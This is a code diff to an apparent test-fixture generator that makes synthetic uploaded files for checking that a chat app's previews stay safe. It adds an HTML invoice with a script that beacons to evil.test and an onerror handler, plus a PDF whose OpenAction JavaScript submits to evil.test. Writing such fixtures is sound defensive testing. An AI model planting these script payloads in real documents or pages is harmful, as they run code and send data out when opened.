@@ -6,8 +6,14 @@ import { deflateSync } from "node:zlib";
 import { Rng } from "./prng";
 import { HOSTILE_SNIPPETS } from "./hostile";
 import { MULTILINGUAL } from "./corpus";
+import { gif, jpeg, webp } from "./raster-bytes";
 
-export type FileType = "pdf" | "png" | "csv" | "docx" | "txt" | "json" | "md" | "svg" | "bin";
+/**
+ * The upload types generic chats draw from, then those only the scripted chats carry: a large disk
+ * image, and the preview corpus (an HTML page with a script, three more raster formats, a text longer
+ * than a preview, a PDF that runs JavaScript when opened).
+ */
+export type FileType = "pdf" | "png" | "csv" | "docx" | "txt" | "json" | "md" | "svg" | "bin" | "html" | "jpeg" | "gif" | "webp" | "long-txt" | "pdf-js";
 
 export const MIME_TYPES: Readonly<Record<FileType, string>> = {
   pdf: "application/pdf",
@@ -19,9 +25,16 @@ export const MIME_TYPES: Readonly<Record<FileType, string>> = {
   md: "text/markdown",
   svg: "image/svg+xml",
   bin: "application/octet-stream",
+  html: "text/html",
+  jpeg: "image/jpeg",
+  gif: "image/gif",
+  webp: "image/webp",
+  "long-txt": "text/plain",
+  "pdf-js": "application/pdf",
 };
 
-export const UPLOAD_TYPES: readonly FileType[] = ["pdf", "png", "csv", "docx", "txt", "json", "md", "svg"];
+export const UPLOAD_TYPES = ["pdf", "png", "csv", "docx", "txt", "json", "md", "svg"] as const satisfies readonly FileType[];
+export type GenericUploadType = (typeof UPLOAD_TYPES)[number];
 
 const CRC_TABLE = (() => {
   const t = new Uint32Array(256);
@@ -72,6 +85,18 @@ export function fileBytes(spec: FileSpec): Buffer {
       rng.fill(b);
       return b;
     }
+    case "html":
+      return Buffer.from(html(spec.title, rng), "utf8");
+    case "jpeg":
+      return jpeg(rng);
+    case "gif":
+      return gif(rng);
+    case "webp":
+      return webp(rng);
+    case "long-txt":
+      return Buffer.from(longLog(rng), "utf8");
+    case "pdf-js":
+      return pdf(spec.title, rng, `app.alert("pdf-openaction"); this.submitForm("https://evil.test/pdf-openaction");`);
   }
 }
 
@@ -115,16 +140,18 @@ function pdfString(s: string): string {
   return s.replace(/[^\x20-\x7e]/g, "?").replace(/([()\\])/g, "\\$1");
 }
 
-function pdf(title: string, rng: Rng): Buffer {
+/** `openActionScript`: JavaScript the catalog's OpenAction runs when a viewer that allows it opens the file. */
+function pdf(title: string, rng: Rng, openActionScript?: string): Buffer {
   const lines = [title, `Reference ${rng.next().toString(16)}`, "Confidential - prepared for internal review."];
   const text = lines.map((l, i) => `BT /F1 ${i === 0 ? 18 : 11} Tf 72 ${720 - i * 28} Td (${pdfString(l)}) Tj ET`).join("\n");
   const objects = [
-    "<< /Type /Catalog /Pages 2 0 R >>",
+    openActionScript === undefined ? "<< /Type /Catalog /Pages 2 0 R >>" : "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
     "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
     "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
     `<< /Length ${Buffer.byteLength(text, "latin1")} >>\nstream\n${text}\nendstream`,
     "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
   ];
+  if (openActionScript !== undefined) objects.push(`<< /Type /Action /S /JavaScript /JS (${pdfString(openActionScript)}) >>`);
   let out = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
   const offsets: number[] = [];
   objects.forEach((body, i) => {
@@ -270,6 +297,41 @@ function markdown(title: string, rng: Rng, hostile: boolean): string {
   ];
   if (hostile) parts.push("", HOSTILE_SNIPPETS[2]!, HOSTILE_SNIPPETS[4]!, HOSTILE_SNIPPETS[10]!);
   return parts.join("\n") + "\n";
+}
+
+/** An HTML page as users upload them: a document with a script and an inline handler that must never run. */
+function html(title: string, rng: Rng): string {
+  const invoice = `2026-${String(1 + rng.int(9999)).padStart(4, "0")}`;
+  return [
+    "<!doctype html>",
+    `<html lang="en"><head><meta charset="utf-8"><title>Invoice ${invoice}</title></head>`,
+    "<body>",
+    `<h1>Invoice ${invoice}</h1>`,
+    `<p>${xmlEscape(title)}: amount due ${(rng.int(1_000_000) / 100).toFixed(2)} EUR.</p>`,
+    `<script>window.__xss=1;navigator.sendBeacon("https://evil.test/html-upload")</script>`,
+    `<img src="x" onerror="window.__xss=1">`,
+    "</body></html>",
+    "",
+  ].join("\n");
+}
+
+/** The bytes of the long log: past the 256 KiB that a text preview shows. */
+export const LONG_LOG_MIN_BYTES = 320 * 1024;
+
+/** Its last line, which a capped preview never reaches. */
+export const LONG_LOG_LAST_LINE = "END OF LOG: this line lies past any 256 KiB preview.";
+
+/** A server log longer than a text preview, one request a line. */
+function longLog(rng: Rng): string {
+  const lines: string[] = [];
+  let bytes = 0;
+  for (let n = 1; bytes < LONG_LOG_MIN_BYTES; n++) {
+    const line = `2026-04-01T09:${String(Math.floor(n / 60) % 60).padStart(2, "0")}:${String(n % 60).padStart(2, "0")}Z INFO request ${String(n).padStart(6, "0")} ${rng.pick(["GET", "POST", "PUT"])} /api/v1/records/${rng.int(100_000)} ${rng.pick(["200", "200", "204", "404"])} ${rng.int(900) + 10}ms`;
+    lines.push(line);
+    bytes += Buffer.byteLength(line) + 1;
+  }
+  lines.push(LONG_LOG_LAST_LINE);
+  return lines.join("\n") + "\n";
 }
 
 function svg(rng: Rng, hostile: boolean): string {
